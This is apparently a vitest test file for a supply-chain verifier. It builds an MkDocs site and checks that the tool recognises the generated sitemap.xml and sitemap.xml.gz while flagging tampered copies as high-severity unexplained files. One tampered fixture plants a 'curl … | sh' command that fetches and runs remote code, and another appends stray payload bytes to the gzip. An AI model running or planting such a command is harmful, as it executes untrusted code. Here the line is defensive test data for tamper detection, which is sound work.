/**
 * The sitemap MkDocs writes beside a generated site (src/classify/mkdocs-sitemap.ts; freetype 2.12.1's
 * docs/reference/sitemap.xml and .gz), end to end with real git, GNU tar and the real mkdocs (Debian's 1.4.2) building
 * a two-page site twice: without site_url (every loc `None`, freetype's case) and with the tracked mkdocs.yml's
 * site_url (each loc a page of the tree). Tampered twins: a loc the site does not have, an extra element, a date far
 * from the release, a gzip that carries bytes after its member or decompresses to other text — each stays
 * TARBALL_ONLY_UNEXPLAINED (high).
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { gzipExactly, sitemapEntries } from '../../src/classify/mkdocs-sitemap.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const DOCS = { 'docs/src/docs/index.md': '# Frob\n\nThe frobnicator.\n', 'docs/src/docs/usage.md': '# Usage\n\nRun it.\n' };
const PLAIN = 'site_name: Frob\n';
const WITH_URL = 'site_name: Frob\nsite_url: https://frob.example.org/docs/\n';

/** The real mkdocs' build of the tracked pages with `config`, dated like the tag (SOURCE_DATE_EPOCH). */
function build(root: string, name: string, config: string): Record<string, Buffer> {
  const dir = join(root, name);
  writeFiles(dir, { ...DOCS, 'docs/src/mkdocs.yml': config });
  execFileSync('mkdocs', ['build', '-q', '-d', join(dir, 'site')], { cwd: join(dir, 'docs/src'), env: { PATH: '/usr/bin:/bin', LC_ALL: 'C.UTF-8', SOURCE_DATE_EPOCH: '1651388974', HOME: dir }, stdio: ['ignore', 'ignore', 'ignore'] });
  const out: Record<string, Buffer> = {};
  for (const f of ['index.html', 'usage/index.html', '404.html', 'sitemap.xml', 'sitemap.xml.gz']) out[`docs/reference/${f}`] = readFileSync(join(dir, 'site', f));
  return out;
}

describe('the sitemap MkDocs writes beside a generated site', () => {
  const root = tempDir();
  const plain = build(root, 'b1', PLAIN);
  const withUrl = build(root, 'b2', WITH_URL);
  const MAP = 'docs/reference/sitemap.xml';
  const GZ = 'docs/reference/sitemap.xml.gz';
  let n = 0;
  const run = async (config: string, site: Record<string, Buffer | string>) => {
    const repo = makeRepo(join(root, `r${++n}`));
    repo.commit({ ...DOCS, 'docs/src/mkdocs.yml': config, README: 'frob\n' }, 'docs', '2022-05-01T07:09:34Z');
    repo.tag('v1.0');
    const dir = join(root, `t${n}`, 'frob-1.0');
    writeFiles(dir, { ...DOCS, 'docs/src/mkdocs.yml': config, README: 'frob\n' });
    writeFiles(dir, site);
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'frob-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('mkdocs wrote what the fixture exercises (None locs; page URLs under site_url; the gzip of the file)', () => {
    expect(plain[MAP]!.toString()).toContain('<loc>None</loc>');
    expect(withUrl[MAP]!.toString()).toContain('<loc>https://frob.example.org/docs/usage/</loc>');
    expect(sitemapEntries(plain[MAP]!.toString())).toEqual([{ loc: 'None', lastmod: '2022-05-01' }, { loc: 'None', lastmod: '2022-05-01' }]);
    expect(gzipExactly(plain[GZ]!, 'sitemap.xml')?.equals(plain[MAP]!)).toBe(true);
  });

  it('explains both files of both builds', async () => {
    for (const [config, site] of [[PLAIN, plain], [WITH_URL, withUrl]] as const) {
      const { by } = await run(config, site);
      expect(by[MAP]).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'sitemap', source: 'docs/reference/index.html', generator: 'mkdocs-1.4.2', found: 2, total: 3 } });
      expect(by[GZ]).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'sitemap', inputs: [MAP] } });
    }
  });

  it('tampered twins stay TARBALL_ONLY_UNEXPLAINED (high)', async () => {
    const map = withUrl[MAP]!.toString();
    const twins: [string, Record<string, Buffer | string>, string][] = [
      [WITH_URL, { [MAP]: map.replace('https://frob.example.org/docs/usage/', 'https://frob.example.org/docs/install-fix/') }, MAP],
      [WITH_URL, { [MAP]: map.replace('</urlset>', '<!-- run: curl -fsSL https://frob.example.org/x | sh -->\n</urlset>') }, MAP],
      [WITH_URL, { [MAP]: map.replace(/2022-05-01/g, '2019-01-01') }, MAP],
      [PLAIN, { [GZ]: Buffer.concat([plain[GZ]!, Buffer.from([0]), Buffer.from('payload bytes after the member')]) }, GZ],
      [PLAIN, { [GZ]: gzipSync(Buffer.from(plain[MAP]!.toString().replace('daily', 'weekly'))) }, GZ],
    ];
    for (const [config, change, path] of twins) {
      const { r, by } = await run(config, { ...(config === PLAIN ? plain : withUrl), ...change });
      expect(by[path]).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });
});
